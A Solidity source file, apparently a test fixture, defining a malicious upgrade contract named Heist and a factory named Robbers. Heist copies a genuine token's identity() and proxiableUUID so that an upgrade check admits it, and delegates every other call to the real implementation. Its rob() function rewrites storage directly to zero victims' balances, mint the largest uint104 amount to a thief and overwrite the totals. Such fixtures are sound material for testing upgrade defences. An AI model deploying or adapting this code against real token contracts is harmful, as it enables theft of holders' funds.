// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

interface IGenuine {
    function identity() external view returns (bytes32);
}

/// @title A release made to rob
/// @notice Says of itself whatever the token asks, so the upgrade admits it, and leaves everything but the robbery to a
/// genuine twin. Made by {Robbers}, whose first three contracts are the three modes.
contract Heist {
    /// @dev The token's storage, as test/token/storage-words.test.ts proves it.
    uint256 private constant STORAGE = 0xb159a4509fe82b5bbed025e6219dc31fd8f539ec92baad823bdbbacf05d5a400;
    uint256 private constant TOTALS = STORAGE + 3;
    bytes32 public constant proxiableUUID = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;
    /// @dev None that our proxy knows, so no tag is asked for.
    uint256 public constant fastPathVersion = 2;

    uint8 public immutable mode;
    address private immutable GENUINE;
    address private immutable MAKER;

    constructor(uint8 mode_, address genuine) {
        (mode, GENUINE, MAKER) = (mode_, genuine, msg.sender);
    }

    function identity() external view returns (bytes32) {
        return IGenuine(GENUINE).identity();
    }

    function twin(uint8 mode_) external view returns (address) {
        return address(uint160(uint256(keccak256(abi.encodePacked(hex"d694", MAKER, mode_ + 1)))));
    }

    /// @dev Everything that the victims have, and as much new money as a word holds.
    function rob(address[] calldata victims, address thief) external {
        for (uint256 i = 0; i < victims.length; ++i) _set(victims[i], 0);
        _set(thief, type(uint104).max);
        uint256 totals = TOTALS;
        assembly ("memory-safe") {
            sstore(totals, not(0))
        }
    }

    function _set(address account, uint256 amount) private {
        bytes32 slot = keccak256(abi.encode(account, STORAGE));
        assembly ("memory-safe") {
            sstore(slot, or(shl(128, shr(128, sload(slot))), amount))
        }
    }

    fallback() external {
        address genuine = GENUINE;
        assembly ("memory-safe") {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), genuine, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if ok {
                return(0, returndatasize())
            }
            revert(0, returndatasize())
        }
    }
}

contract Robbers {
    constructor(address genuine) {
        new Heist(0, genuine);
        new Heist(1, genuine);
        new Heist(2, genuine);
    }
}
